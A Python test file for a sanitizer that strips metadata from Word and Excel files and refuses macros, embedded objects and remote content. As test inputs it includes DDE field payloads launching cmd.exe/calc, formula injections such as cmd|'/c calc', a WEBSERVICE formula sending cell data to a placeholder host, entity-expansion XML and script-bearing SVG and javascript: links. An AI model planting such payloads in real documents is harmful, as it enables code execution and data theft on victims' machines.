"""A DOCX or XLSX keeps its text and pictures, loses who made it, and may carry nothing that acts or fetches."""

import io

import pytest
from openpyxl import load_workbook
from PIL import Image

from casestudies import contents
from casestudies.contents import BadContent, Danger, Removed, Unsafe, field_codes, kind_of
from tests.casestudies import files, office_files
from tests.casestudies.office_files import (
    OFFICE,
    SECRET,
    TYPES,
    Parts,
    docx,
    docx_parts,
    everything,
    relations,
    unzipped,
    word,
    xlsx,
    xlsx_parts,
    zipped,
)

CHART = f"{TYPES}drawingml.chart+xml"
BIN = b"\xd0\xcf\x11\xe0 a program"


def cleaned(data: bytes) -> contents.Cleaned:
    return kind_of(data).clean(data)


def danger_in(data: bytes) -> Danger:
    with pytest.raises(Unsafe) as refusal:
        cleaned(data)
    return refusal.value.danger


def part(data: bytes, name: str) -> str:
    return unzipped(cleaned(data).content)[name].decode()


@pytest.mark.parametrize(("data", "name"), [(docx(), "DOCX"), (xlsx(), "XLSX"), (office_files.odt(), "ODT")])
def test_an_office_file_is_known_by_its_main_part_and_made_the_same_each_time(data: bytes, name: str) -> None:
    kind = kind_of(data)
    assert kind.name == name
    once = kind.clean(data).content
    assert kind.clean(data).content == once
    assert kind.clean(once).content == once
    assert once.startswith(b"PK\3\4")


def test_the_parts_may_stand_in_any_order_and_the_main_part_under_any_name() -> None:
    parts = {name.replace("document", "text"): content for name, content in reversed(docx_parts().items())}
    for name in ("[Content_Types].xml", "_rels/.rels"):
        parts[name] = str(parts[name]).replace("word/document", "word/text")
    assert kind_of(zipped(parts)).name == "DOCX"


@pytest.mark.parametrize("data", [docx(), xlsx()])
def test_who_made_it_is_gone(data: bytes) -> None:
    assert SECRET.encode() in everything(data)
    result = cleaned(data)
    left = everything(result.content)
    for secret in (SECRET.encode(), SECRET.encode("utf-16-le"), files.SECRET_PLACE, b"docProps", b"printerSettings"):
        assert secret not in left
    assert result.removed == frozenset()


def test_the_text_the_changes_the_remarks_and_the_picture_are_still_there() -> None:
    parts = unzipped(cleaned(docx()).content)
    text = parts["word/document.xml"].decode()
    assert '<w:t xml:space="preserve">Nine in ten &amp; one &lt; two </w:t>' in text
    assert '<w:ins w:id="1" w:author="Author" w:date="2026-01-02T03:04:05Z">' in text
    assert '<w:comment w:id="1" w:author="Author" w:initials="A">' in parts["word/comments.xml"].decode()
    assert "Is it so?" in parts["word/comments.xml"].decode()
    assert Image.open(io.BytesIO(parts["word/media/image1.png"])).size == (4, 3)


def test_a_workbook_still_opens() -> None:
    book = load_workbook(io.BytesIO(cleaned(xlsx()).content))
    assert book["Plan"]["A1"].value == 7
    assert book["Plan"]["A1"].comment.author == "Author"
    assert book.properties.creator == "openpyxl"


def test_somebody_in_a_conversation_stays_without_a_name() -> None:
    person = f'<personList xmlns="x"><person displayName="{SECRET}" id="{{1}}" userId="S::{SECRET}" providerId="AD"/>'
    ms = "http://schemas.microsoft.com/office/2017/10/relationships/person"
    data = xlsx(
        rels=(("rId2", ms, "persons/person.xml"),),
        more={"xl/persons/person.xml": person + "</personList>"},
        said={"xl/persons/person.xml": "application/vnd.ms-excel.person+xml"},
    )
    expected = '<person displayName="Author" id="{1}" userId="" providerId="None"/>'
    assert expected in part(data, "xl/persons/person.xml")
    assert "<author>tc={1-2}</author>" in part(data, "xl/comments1.xml")


def test_the_folder_on_somebodys_computer_is_gone() -> None:
    book = f'<fileSharing userName="{SECRET}"/><a:absPath xmlns:a="a" url="C:\\{SECRET}\\"/>'
    said = part(xlsx(book=book), "xl/workbook.xml")
    assert SECRET not in said
    assert "fileSharing" not in said


def test_pictures_inside_are_cleaned_by_their_content() -> None:
    more: Parts = {"word/media/image1.png": files.jpeg()}
    result = unzipped(cleaned(docx(more=more)).content)
    assert files.SECRET_PLACE not in result["word/media/image1.png"]
    assert b'PartName="/word/media/image1.png" ContentType="image/jpeg"' in result["[Content_Types].xml"]


@pytest.mark.parametrize("picture", [b"II*\0 a TIFF with a position", b"<svg/>", BIN, b""])
def test_a_picture_that_nobody_could_look_into_is_refused_by_name(picture: bytes) -> None:
    with pytest.raises(Unsafe) as refusal:
        cleaned(docx(more={"word/media/image1.png": picture}))
    assert (refusal.value.danger, refusal.value.place) == (Danger.PICTURE_KIND, "word/media/image1.png")


@pytest.mark.parametrize("picture", [files.png_of_size(30_000, 30_000), files.png()[:40]])
def test_what_is_wrong_with_a_picture_is_told_with_its_name(picture: bytes) -> None:
    with pytest.raises(BadContent) as refusal:
        cleaned(docx(more={"word/media/image1.png": picture}))
    assert refusal.value.place == "word/media/image1.png"


def test_what_stands_beside_the_main_part_is_not_kept() -> None:
    label = ("rId9", "http://x/classificationlabels", "docMetadata/LabelInfo.xml")
    rels = relations(("rId1", "officeDocument", "word/document.xml"), label)
    data = docx(more={"_rels/.rels": rels, "docMetadata/LabelInfo.xml": f"<x>{SECRET}</x>"})
    assert SECRET.encode() not in everything(cleaned(data).content)


def test_what_no_relationship_leads_to_is_not_kept() -> None:
    result = cleaned(docx(more={"word/evil.exe": b"MZ", "other/x.xml": "<x/>"})).content
    assert not {"word/evil.exe", "other/x.xml"} & {*unzipped(result)}


MACROS = [
    docx(said={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
    xlsx(said={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
    docx(rels=(("rId7", f"{OFFICE}/vbaProject", "vbaProject.bin"),), more={"word/vbaProject.bin": BIN}),
    docx(rels=(("rId7", f"{OFFICE}/vbaProject", "innocent.xml"),), more={"word/innocent.xml": "<x/>"}),
    docx(more={"word/vbaProject.bin": BIN}),
    docx(more={"word/a.dat": BIN}, said={"word/a.dat": "application/vnd.ms-office.vbaProject"}),
    xlsx(
        more={"xl/macrosheets/a.xml": "<x/>"}, said={"xl/macrosheets/a.xml": "application/vnd.ms-excel.macrosheet+xml"}
    ),
    xlsx(rels=(("rId7", "http://x/xlMacrosheet", "a.xml"),), more={"xl/a.xml": "<x/>"}),
]


@pytest.mark.parametrize("data", MACROS)
def test_macros_are_refused_wherever_they_hide(data: bytes) -> None:
    with pytest.raises(Unsafe) as refusal:
        kind_of(data).clean(data)
    assert refusal.value.danger is Danger.MACROS


@pytest.mark.parametrize(
    ("kind", "danger"),
    [
        ("control", Danger.ACTIVE_X),
        ("oleObject", Danger.OBJECT),
        ("package", Danger.OBJECT),
        ("video", Danger.OBJECT),
        ("aFChunk", Danger.OTHER_TEXT),
        ("externalLink", Danger.OTHER_WORKBOOK),
        ("connections", Danger.CONNECTION),
        ("queryTable", Danger.CONNECTION),
    ],
)
@pytest.mark.parametrize("space", [OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"])
def test_what_acts_or_fetches_is_refused(kind: str, danger: Danger, space: str) -> None:
    data = docx(rels=(("rId7", f"{space}/{kind}", "a.xml"),), more={"word/a.xml": "<x/>"})
    assert danger_in(data) is danger


@pytest.mark.parametrize(
    ("name", "said", "danger"),
    [
        ("word/activeX/activeX1.bin", "application/x", Danger.ACTIVE_X),
        ("word/a.xml", "application/vnd.ms-office.activeX+xml", Danger.ACTIVE_X),
        ("word/a.dat", "application/vnd.openxmlformats-officedocument.oleObject", Danger.OBJECT),
    ],
)
def test_programs_are_refused_even_where_nothing_leads_to_them(name: str, said: str, danger: Danger) -> None:
    assert danger_in(docx(more={name: "<x/>"}, said={name: said})) is danger


def test_a_part_that_is_neither_text_nor_picture_is_refused() -> None:
    assert danger_in(docx(rels=(("rId7", "settings", "a.bin"),), more={"word/a.bin": BIN})) is Danger.OBJECT


@pytest.mark.parametrize(
    ("kind", "danger"),
    [("image", Danger.REMOTE_PICTURE), ("styles", Danger.OUTSIDE), ("subDocument", Danger.OTHER_TEXT),
     ("frame", Danger.OTHER_TEXT), ("anything", Danger.OUTSIDE)],
)  # fmt: skip
@pytest.mark.parametrize("target", ["http://x.example/a.png", "\\\\server\\a.png", "file:///c:/a.png", "a.png"])
def test_what_lies_outside_of_the_file_is_refused(kind: str, danger: Danger, target: str) -> None:
    with pytest.raises(Unsafe) as refusal:
        cleaned(docx(rels=(("rId7", kind, target, "External"),)))
    assert (refusal.value.danger, refusal.value.place) == (danger, target)


@pytest.mark.parametrize(
    "body",
    [
        '<v:shape><v:imagedata src="http://x.example/a.png"/></v:shape>',
        '<v:shape><v:fill o:href="\\\\server\\a.png"/></v:shape>',
        '<v:shape><v:imagedata o:althref="file:///a"/></v:shape>',
    ],
)
def test_an_old_drawing_cannot_fetch_its_picture(body: str) -> None:
    assert danger_in(docx(body)) is Danger.REMOTE_PICTURE


def test_an_object_without_a_relationship_is_refused_too() -> None:
    assert danger_in(docx('<o:OLEObject Type="Link" ProgID="Excel.Sheet"/>')) is Danger.OBJECT


def test_a_link_to_a_page_stays_and_one_to_a_file_leads_nowhere() -> None:
    data = docx(
        rels=(
            ("rId7", "hyperlink", "https://example.org/a?b=1&amp;c", "External"),
            ("rId8", "hyperlink", "MAILTO:team@example.org", "External"),
            ("rId9", "hyperlink", f"file:///C:/Users/{SECRET}/a.docx", "External"),
            ("rIda", "hyperlink", "javascript:alert(1)", "External"),
            ("rIdb", "hyperlink", f"\\\\server\\{SECRET}", "External"),
            ("rIdc", "hyperlink", "ms-word:ofe|u|https://x.example/", "External"),
        )
    )
    result = cleaned(data)
    said = unzipped(result.content)["word/_rels/document.xml.rels"].decode()
    assert said.count('Target="about:blank" TargetMode="External"') == 4
    assert "https://example.org/a?b=1&amp;c" in said
    assert "MAILTO:team@example.org" in said
    assert SECRET not in said
    assert result.removed == {Removed.LINKS_TO_FILES}


@pytest.mark.parametrize(
    ("kind", "body", "element", "removed"),
    [
        ("attachedTemplate", '<w:attachedTemplate r:id="rId7"/>', "attachedTemplate", {Removed.TEMPLATE_LINK}),
        ("mailMergeSource", '<w:mailMerge><w:x r:id="rId7"/></w:mailMerge>', "mailMerge", {Removed.MAIL_MERGE}),
        ("font", '<w:embedRegular r:id="rId7"/>', "embedRegular", {Removed.FONTS}),
        ("http://x/webextensiontaskpanes", "", "webext", {Removed.ADD_INS}),
        ("http://x/ui/extensibility", "", "customUI", {Removed.ADD_INS}),
        ("http://x/digital-signature/origin", "", "signature", {Removed.SIGNATURE}),
        ("customXml", '<w:dataBinding w:xpath="/x"/>', "dataBinding", set()),
        ("http://x/people", "", "people", set()),
    ],
)  # fmt: skip
def test_what_nobody_misses_is_taken_out_and_told(kind: str, body: str, element: str, removed: set[Removed]) -> None:
    for target, mode in (("a.bin", ()), (f"file:///C:/{SECRET}.dotx", ("External",))):
        data = docx(body + TEXT_AFTER, ((("rId7", kind, target, *mode)),), {"word/a.bin": SECRET})
        result = cleaned(data)
        assert result.removed == removed
        left = everything(result.content)
        assert SECRET.encode() not in left
        assert b"rId7" not in left
        assert f"<w:{element}".encode() not in left
        assert b"after it" in left


TEXT_AFTER = "<w:p><w:r><w:t>after it</w:t></w:r></w:p>"


def test_a_chart_stays_without_the_workbook_behind_it() -> None:
    chart = f'<c:chartSpace xmlns:c="c" xmlns:r="{OFFICE}"><c:v>7</c:v><c:externalData r:id="rId1"/></c:chartSpace>'
    data = docx(
        rels=(("rId7", "chart", "charts/chart1.xml"),),
        more={
            "word/charts/chart1.xml": chart,
            "word/charts/_rels/chart1.xml.rels": relations(("rId1", "package", "../embeddings/book.xlsx")),
            "word/embeddings/book.xlsx": xlsx(),
        },
        said={"word/charts/chart1.xml": CHART},
    )
    result = cleaned(data)
    parts = unzipped(result.content)
    assert b"<c:v>7</c:v></c:chartSpace>" in parts["word/charts/chart1.xml"]
    assert not [name for name in parts if "embeddings" in name or "chart1.xml.rels" in name]
    assert result.removed == {Removed.CHART_DATA}


def test_a_vector_picture_goes_and_its_drawn_twin_stays() -> None:
    body = '<a:blip r:embed="rId1"><a:ext><x:svgBlip xmlns:x="x" r:embed="rId7"/></a:ext></a:blip>'
    data = docx(
        body,
        (("rId7", "image", "media/a.svg"),),
        {"word/media/a.svg": "<svg><script>alert(1)</script></svg>"},
        said={"word/media/a.svg": "image/svg+xml"},
    )
    result = cleaned(data)
    assert b"svg" not in everything(result.content)
    assert result.removed == {Removed.VECTOR_PICTURES}


def field(*pieces: str) -> str:
    return "".join(pieces)


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text: str, *, name: str = "instrText") -> str:
    return f"<w:r><w:{name}>{text}</w:{name}></w:r>"


BEGIN, MIDDLE, END = mark("begin"), mark("separate"), mark("end")


@pytest.mark.parametrize(
    "body",
    [
        BEGIN + code(' DDEAUTO c:\\\\cmd.exe "/k calc"') + END,
        BEGIN + code("dde x") + MIDDLE + END,
        BEGIN + code(" D") + code("DE") + code("AUTO x") + END,
        BEGIN + code(" " * 5_000) + code("DDE x") + END,
        BEGIN + code("DDE x"),
        code("DDE x"),
        '<w:fldSimple w:instr=" DDEAUTO x y"/>',
        BEGIN + BEGIN + code("QUOTE 68 68 69") + END + code(" x") + END,
        BEGIN + code("D") + BEGIN + code("QUOTE 68 69") + END + code(" x") + END,
        BEGIN + code("D") + code("x", name="delInstrText") + code("DE x") + END,
        BEGIN + code("DDE x", name="delInstrText") + END,
        BEGIN + "<mc:AlternateContent><mc:Choice>" + code("X") + "</mc:Choice></mc:AlternateContent>" + END,
        BEGIN + code("IF 1 = 1 ") + BEGIN + code("INCLUDETEXT http://x") + END + END,
        BEGIN + code("PAGE") + MIDDLE + BEGIN + code("INCLUDEPICTURE http://x \\d") + END + END,
        BEGIN + code("<mc:x/>DD<mc:x/>E x") + END,
        "<x:r xmlns:x='x'><x:fldChar x:fldCharType='begin'/><x:instrText>LINK Excel</x:instrText></x:r>",
        BEGIN + code("<![CDATA[DDE x]]>") + END,
        BEGIN + code("&#68;DE x") + END,
    ],
)
def test_a_field_that_fetches_or_starts_a_program_is_refused_however_it_is_spelt(body: str) -> None:
    assert danger_in(docx(body)) is Danger.FIELD


@pytest.mark.parametrize(
    "body",
    [
        BEGIN + code(" PAGE \\* MERGEFORMAT ") + MIDDLE + "<w:r><w:t>DDE</w:t></w:r>" + END,
        BEGIN + code('HYPERLINK "https://example.org/DDE"') + MIDDLE + BEGIN + code("PAGEREF x") + END + END,
        BEGIN + code("IF ") + BEGIN + code("MERGEFIELD x") + END + code(' = "DDE" "a" "b"') + END,
        BEGIN + code("=") + BEGIN + code("PAGE") + END + code("+1") + END,
        BEGIN + code("TOC") + MIDDLE + "<mc:AlternateContent/>" + END,
        '<w:fldSimple w:instr="LISTNUM"/>',
        END + MIDDLE,
    ],
)
def test_the_fields_of_everyday_stay(body: str) -> None:
    assert cleaned(docx(body)).content


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "SUM(A1)+MSEXCEL|'..\\cmd.exe /c calc'!''",
        '_xlfn.WEBSERVICE("http://x.example/"&amp;A1)',
        '_xlfn.IMAGE("http://x.example/a.png")',
        'rtd("a","b")',
        'IF(1,CALL("urlmon","x"),0)',
        'REGISTER.ID("a","b")',
        "1" * 30_000,
    ],
)
def test_a_formula_that_fetches_or_starts_a_program_is_refused(formula: str) -> None:
    assert danger_in(xlsx(f'<c r="B1"><f>{formula}</f></c>')) is Danger.FORMULA
    assert danger_in(xlsx(f"<c><is><f>{formula[:5]}<x/>{formula[5:]}</f></is></c>")) is Danger.FORMULA
    assert danger_in(xlsx(book=f'<definedNames><definedName name="a">{formula}</definedName></definedNames>'))


@pytest.mark.parametrize(
    "formula",
    ["SUM(A1:A9)", "'a|b'!A1", '"a|b"&amp;A1', "MYCALL(1)", '"WEBSERVICE("', "_xlfn.XLOOKUP(A1,B:B,C:C)"],
)
def test_the_formulas_of_everyday_stay(formula: str) -> None:
    assert f"<f>{formula.replace(chr(34), chr(34))}</f>" in part(xlsx(f"<c><f>{formula}</f></c>"), SHEET_1)


SHEET_1 = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/document.xml", '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        ("word/document.xml", '<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'),
        ("_rels/.rels", "<!DOCTYPE a><a/>"),
        ("[Content_Types].xml", '<?xml version="1.0"?><!DOCTYPE a><a/>'),
    ],
)
def test_entities_are_refused_at_the_first_mark(name: str, content: str) -> None:
    with pytest.raises(contents.HasDoctype):
        cleaned(zipped(docx_parts() | {name: content}))


@pytest.mark.parametrize(
    "content",
    [
        "<a>&unknown;</a>",
        "<a><b></a>",
        "",
        "no marks",
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        b'<?xml version="1.0" encoding="UTF-7"?><a/>',
        b"<a>\xff</a>",
        "<a/><b/>",
        "<a>\0</a>",
    ],
)
def test_a_part_that_is_no_proper_xml_is_damaged(content: str | bytes) -> None:
    with pytest.raises(contents.Damaged):
        cleaned(zipped(docx_parts() | {"word/document.xml": content}))


def test_another_encoding_comes_out_as_utf_8() -> None:
    text = word("<w:t>café</w:t>").replace("UTF-8", "UTF-16").encode("utf-16")
    assert "<w:t>café</w:t>" in part(zipped(docx_parts() | {"word/document.xml": text}), "word/document.xml")


def test_a_mark_without_end_is_refused_while_it_arrives(settings) -> None:
    settings.OFFICE_FILE_LIMITS = {"ratio": 10_000, "mark_bytes": 300_000}
    with pytest.raises(contents.Damaged):
        cleaned(docx(f'<w:p w:x="{"a" * 1_000_000}"/>'))


def test_a_field_code_as_long_as_a_book_is_refused(settings) -> None:
    settings.OFFICE_FILE_LIMITS = {"ratio": 10_000, "mark_bytes": 300_000}
    text = "<w:t>{}</w:t>".format("a" * 1_000_000)
    assert cleaned(docx(text))
    with pytest.raises(contents.Damaged):
        cleaned(docx(text.replace("w:t", "w:instrText")))


def test_of_a_field_code_only_the_beginning_is_kept() -> None:
    code = ""
    for _piece in range(1_000):
        code = field_codes._begun(code, "PAGE ")
    assert len(code) == field_codes.LONGEST


def test_field_codes_inside_each_other_are_refused() -> None:
    assert cleaned(docx("<w:instrText>" * 4 + "PAGE" + "</w:instrText>" * 4))
    with pytest.raises(contents.Damaged):
        cleaned(docx("<w:instrText>" * 5 + "PAGE" + "</w:instrText>" * 5))


def test_attributes_count_as_well_as_elements(settings) -> None:
    body = "<w:p {}/>".format(" ".join(f'w:a{number}="1"' for number in range(1_000)))
    assert cleaned(docx(body))
    settings.OFFICE_FILE_LIMITS = {"elements": 400}
    assert cleaned(docx())
    with pytest.raises(contents.TooMuch):
        cleaned(docx(body))


def test_comments_instructions_and_strange_spellings_do_not_come_through() -> None:
    body = f"<!-- {SECRET} --><?mso {SECRET}?><w:p w:x='a&#9;&quot;b'><w:t><![CDATA[1 < 2 & 3]]>&#13;</w:t></w:p>"
    body += "<w:a></w:a>"
    text = part(docx(body), "word/document.xml")
    assert SECRET not in text
    assert '<w:p w:x="a&#9;&quot;b"><w:t>1 &lt; 2 &amp; 3&#13;</w:t></w:p><w:a/>' in text


@pytest.mark.parametrize(
    "changes",
    [
        {"_rels/.rels": relations()},
        {"_rels/.rels": relations(("a", "officeDocument", "gone.xml"))},
        {"_rels/.rels": relations(("a", "officeDocument", "http://x.example/", "External"))},
        {"_rels/.rels": relations(*((c, "officeDocument", "word/document.xml") for c in "ab"))},
        {"word/_rels/document.xml.rels": relations(*(("a", "hyperlink", "#x") for _each in range(2)))},
        {"[Content_Types].xml": office_files.types({}).replace("</Types>", "<Default Extension='XML'/></Types>")},
    ],
)  # fmt: skip
def test_a_file_that_contradicts_itself_is_damaged(changes: Parts) -> None:
    with pytest.raises(contents.Damaged):
        cleaned(zipped(docx_parts() | changes))


def test_parts_that_lead_to_each_other_are_walked_once() -> None:
    loop = relations(("rId1", "image", "media/image1.png"), ("rId5", "settings", "document.xml"))
    assert cleaned(zipped(docx_parts() | {"word/_rels/document.xml.rels": loop})).content


def test_a_reference_to_nothing_is_taken_out_with_its_relationship() -> None:
    text = part(docx('<a:blip r:embed="rId7" a:id="rId7x"/>', (("rId7", "image", "NULL"),)), "word/document.xml")
    assert '<a:blip a:id="rId7x"/>' in text


@pytest.mark.parametrize(
    "said",
    [f"{TYPES}wordprocessingml.template.main+xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"],
)
def test_a_template_or_a_binary_workbook_is_told_as_such(said: str) -> None:
    with pytest.raises(contents.SavedAsOther):
        cleaned(docx(said={"word/document.xml": said}))


def test_a_presentation_is_of_no_kind() -> None:
    with pytest.raises(contents.UnknownKind):
        kind_of(docx(said={"word/document.xml": f"{TYPES}presentationml.presentation.main+xml"}))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def test_a_file_with_a_password_and_one_of_the_old_kind_are_told_apart() -> None:
    with pytest.raises(contents.NeedsPassword):
        kind_of(OLE + "EncryptedPackage".encode("utf-16-le"))
    with pytest.raises(contents.OldOffice):
        kind_of(OLE + "WordDocument".encode("utf-16-le"))


def test_a_pdf_that_is_an_office_file_too_is_written_anew_as_one() -> None:
    parts = docx_parts()
    first = zipped({"%PDF-1.7": "%%EOF startxref", **parts})
    assert first.index(b"%PDF-") < 1024
    assert b"%PDF" not in cleaned(first).content


def gif(*blocks: bytes) -> bytes:
    return b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"".join(blocks) + b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;" + b"after"


def test_a_gif_loses_its_comments_and_keeps_its_pictures() -> None:
    comment, loop = b"\x21\xfe\x0bJane Secret\0", b"\x21\xff\x0bNETSCAPE2.0\3\1\0\0\0"
    other, control = b"\x21\xff\x0bXMP DataXMP\4<x/>\0", b"\x21\xf9\4\0\0\0\0\0"
    data = docx(more={"word/media/image1.png": gif(comment, loop, other, control)})
    picture = unzipped(cleaned(data).content)["word/media/image1.png"]
    assert picture == gif(loop, control)[: -len(b"after")]
    Image.open(io.BytesIO(picture)).load()


@pytest.mark.parametrize(
    "data", [gif()[:12], gif()[:-6], gif(b"\x21\xfe\xff"), gif(b"\x99"), gif(b"\x21\xfe\1a\0" * 100_001)]
)
def test_a_gif_that_breaks_off_or_never_ends_is_damaged(data: bytes) -> None:
    with pytest.raises(contents.Damaged):
        cleaned(docx(more={"word/media/image1.png": data}))


def test_a_gif_has_no_more_pixels_than_another_picture() -> None:
    with pytest.raises(contents.TooManyPixels):
        cleaned(docx(more={"word/media/image1.png": gif().replace(b"a\1\0\1\0", b"a\xff\xff\xff\xff", 1)}))


@pytest.mark.parametrize("data", [b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(60), b"\xd7\xcd\xc6\x9a", b"BM"])
def test_a_drawing_is_kept_as_it_is(data: bytes) -> None:
    assert unzipped(cleaned(docx(more={"word/media/image1.png": data})).content)["word/media/image1.png"] == data


def test_the_rules_hold_in_a_workbook_too() -> None:
    rels = (("rId7", "attachedToolbars", "a.bin"), ("rId8", "customXml", "b.xml"))
    data = xlsx(rels=rels, more={"xl/a.bin": SECRET, "xl/b.xml": f"<x>{SECRET}</x>"})
    assert SECRET.encode() not in everything(cleaned(data).content)
    assert zipped(xlsx_parts()) != b""
